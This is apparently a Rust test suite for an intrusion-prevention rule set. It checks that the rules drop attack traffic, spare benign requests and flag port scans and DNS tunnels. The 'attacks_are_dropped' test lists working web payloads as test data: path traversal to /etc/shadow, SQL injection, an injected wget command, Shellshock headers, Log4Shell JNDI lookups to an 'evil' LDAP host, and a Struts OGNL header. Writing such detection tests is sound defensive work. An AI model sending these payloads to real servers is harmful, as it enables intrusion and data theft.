//! Our own rules against what they are for, and against what they must leave alone.

use std::net::IpAddr;

use tidegate::packet::conntrack::Direction;
use tidegate::packet::decode::{Headers, Ip, Tcp, Transport, Udp};
use tidegate::packet::detect::{Decision, DetectThread, FlowDetectState, FlowView, PayloadPlace, SharedDetectState};
use tidegate::packet::flow::measure::Measured;
use tidegate::packet::ingress::{Ingress, Timestamp};
use tidegate::rules::{Options, RuleSet, Source, compile};

struct Gate {
    rules: std::sync::Arc<RuleSet>,
    thread: DetectThread,
    shared: SharedDetectState,
    now: u64,
}

impl Gate {
    fn new() -> Gate {
        let text = std::fs::read_to_string(super::manifest("rules/tidegate.rules")).unwrap();
        let rules = compile(&[Source::new("tidegate.rules", text)], &super::context(), &Options::default()).set;
        let now = 1_700_000_000_000_000;
        Gate { rules, thread: DetectThread::new(), shared: SharedDetectState::default(), now }
    }

    fn judge(&mut self, headers: &Headers<'_>, direction: Direction) -> (Vec<u32>, Decision) {
        self.now += 1_000;
        let mut state = FlowDetectState::default();
        let flow = FlowView {
            direction,
            established: true,
            measured: Measured::default(),
            state: &mut state,
            app: None,
            app_failed: false,
            stream: None,
            payload: PayloadPlace::Alone,
            recorded: false,
        };
        let ingress = Ingress::bare(&[], 0x0800);
        let now = Timestamp::from_micros(self.now);
        let outcome = self.thread.inspect(&self.rules, &ingress, headers, Some(flow), &self.shared, now);
        (outcome.matches().map(|found| found.rule.sid).collect(), outcome.decision)
    }

    fn tcp(&mut self, payload: &[u8]) -> (Vec<u32>, Decision) {
        let headers = tcp(payload, Tcp::ACK | Tcp::PSH, 8080, &[]);
        self.judge(&headers, Direction::Original)
    }

    fn dns(&mut self, payload: &[u8]) -> (Vec<u32>, Decision) {
        let udp = Udp { src_port: 40000, dst_port: 53, len: 0, checksum: 0, header: &[] };
        let headers = Headers { ip: ip(17), transport: Transport::Udp(udp), payload };
        self.judge(&headers, Direction::Original)
    }
}

fn ip(protocol: u8) -> Ip<'static> {
    Ip {
        src: IpAddr::from([10, 1, 0, 2]),
        dst: IpAddr::from([10, 2, 0, 2]),
        version: 4,
        protocol,
        ttl: 64,
        tos: 0,
        id: 1,
        flow_label: 0,
        fragment_flags: 2,
        fragment_offset: 0,
        total_len: 0,
        options: &[],
        header: &[0; 20],
    }
}

fn tcp<'p>(payload: &'p [u8], flags: u8, dst_port: u16, header: &'p [u8]) -> Headers<'p> {
    let tcp = Tcp {
        src_port: 40000,
        dst_port,
        seq: 1,
        ack: 1,
        flags,
        reserved: 0,
        window: 1024,
        checksum: 0,
        urgent: 0,
        options: &[],
        header,
    };
    Headers { ip: ip(6), transport: Transport::Tcp(tcp), payload }
}

/// A question with these labels, of this type.
fn question(labels: &[usize], kind: u16) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for length in labels {
        message.push(u8::try_from(*length).unwrap());
        message.extend(std::iter::repeat_n(b'a', *length));
    }
    message.extend(b"\x03com\x00");
    message.extend(kind.to_be_bytes());
    message.extend([0, 1]);
    message
}

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n")
}

#[test]
fn attacks_are_dropped() {
    let mut gate = Gate::new();
    let requests = [
        get("/../../../../etc/passwd"),
        get("/static/../../../etc/shadow"),
        get("/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
        get("/%2e%2e%2f%2e%2e%2fetc/hosts"),
        get("/download?file=..%2f..%2f..%2fetc%2fshadow"),
        get("/download?file=/etc/passwd"),
        get("/manager/..;/html"),
        get("/item?id=1%20UNION%20SELECT%20name,pass%20FROM%20users"),
        get("/item?id=1+union+all+select+null,null"),
        get("/item?id=-1/**/UNION/**/SELECT/**/1,2,3"),
        get("/item?id=1'%20OR%20'1'='1"),
        get("/item?id=1%27%20OR%20%271%27=%271"),
        get("/item?id=1'+or+1=1--"),
        get("/item?id=1;DROP%20TABLE%20users"),
        get("/ping?host=1.1.1.1%3Bwget%20http://x/y"),
        "GET /cgi-bin/status HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n".to_owned(),
        "GET / HTTP/1.1\r\nHost: a\r\nX: () { ignored; }; echo hi\r\n\r\n".to_owned(),
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil/a}\r\n\r\n".to_owned(),
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${${lower:j}ndi:ldap://evil/a}\r\n\r\n".to_owned(),
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${${::-j}${::-n}di:ldap://evil/a}\r\n\r\n".to_owned(),
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: %{(#_='multipart/form-data')}\r\n\r\n".to_owned(),
    ];
    for request in requests {
        let (sids, decision) = gate.tcp(request.as_bytes());
        assert_eq!(decision, Decision::Drop, "{request}: {sids:?}");
    }
}

#[test]
fn benign_traffic_is_left_alone() {
    let mut gate = Gate::new();
    let requests = [
        get("/"),
        get("/index.html?lang=en&page=2"),
        get("/search?q=trade+union+elections"),
        get("/search?q=select+a+plan+or+upgrade"),
        get("/search?q=Tim%27s+or+Bob%27s+house"),
        get("/a/../b.css"),
        get("/docs/passwd.html"),
        get("/api/v1/items?filter=price%3E10&sort=name"),
        "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 90\r\n\r\nimport x from '../../../lib/x'; const f = () => { return 1; };\r\n".to_owned(),
        "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: 30\r\n\r\nuser=o'brien&password=a%3Db".to_owned(),
        "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n".to_owned(),
        "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}".to_owned(),
        "EHLO mail.example\r\n".to_owned(),
    ];
    for request in &requests {
        let (sids, _) = gate.tcp(request.as_bytes());
        assert!(sids.is_empty(), "{request}: {sids:?}");
    }
    for labels in [&[3, 7][..], &[20, 12], &[40, 8]] {
        for kind in [1, 28, 16, 65] {
            let (sids, _) = gate.dns(&question(labels, kind));
            assert!(sids.is_empty(), "{labels:?} {kind}: {sids:?}");
        }
    }
}

/// Two hundred connections of one client, as operating systems open them, are no scan.
#[test]
fn many_connections_are_no_scan() {
    let mut gate = Gate::new();
    for at in 0..200u16 {
        let port = *[80, 443, 5201, 8080, 22].get(usize::from(at % 5)).unwrap();
        let (sids, _) = gate.judge(&tcp(&[], Tcp::SYN, port, &[0; 40]), Direction::Original);
        assert!(sids.is_empty(), "{port}: {sids:?}");
    }
}

#[test]
fn scans_are_noticed() {
    let mut gate = Gate::new();
    let mut decisions = Vec::new();
    for port in 1..60 {
        decisions.push(gate.judge(&tcp(&[], Tcp::SYN, port, &[0; 20]), Direction::Original).1);
    }
    assert_eq!(decisions.iter().filter(|decision| **decision == Decision::Drop).count(), 39, "from the 21st on");
    let mut gate = Gate::new();
    let alerts =
        (200..300).filter(|port| !gate.judge(&tcp(&[], Tcp::SYN, *port, &[0; 40]), Direction::Original).0.is_empty());
    assert!(alerts.count() >= 1, "a scan by connect() is told");
    for flags in [0, Tcp::FIN | Tcp::PSH | Tcp::URG, Tcp::SYN | Tcp::FIN] {
        let (sids, decision) = gate.judge(&tcp(&[], flags, 80, &[0; 40]), Direction::Original);
        assert_eq!(decision, Decision::Drop, "{flags:#x} {sids:?}");
    }
}

#[test]
fn dns_tunnels_are_dropped() {
    let mut gate = Gate::new();
    assert_eq!(gate.dns(&question(&[63, 63, 57], 16)).1, Decision::Drop);
    assert_eq!(gate.dns(&question(&[60, 60, 60, 20], 1)).1, Decision::Drop);
    let mut gate = Gate::new();
    let decisions: Vec<Decision> = (0..30).map(|_| gate.dns(&question(&[45, 6], 16)).1).collect();
    assert_eq!(decisions.iter().filter(|decision| **decision == Decision::Drop).count(), 20, "from the 11th on");
}
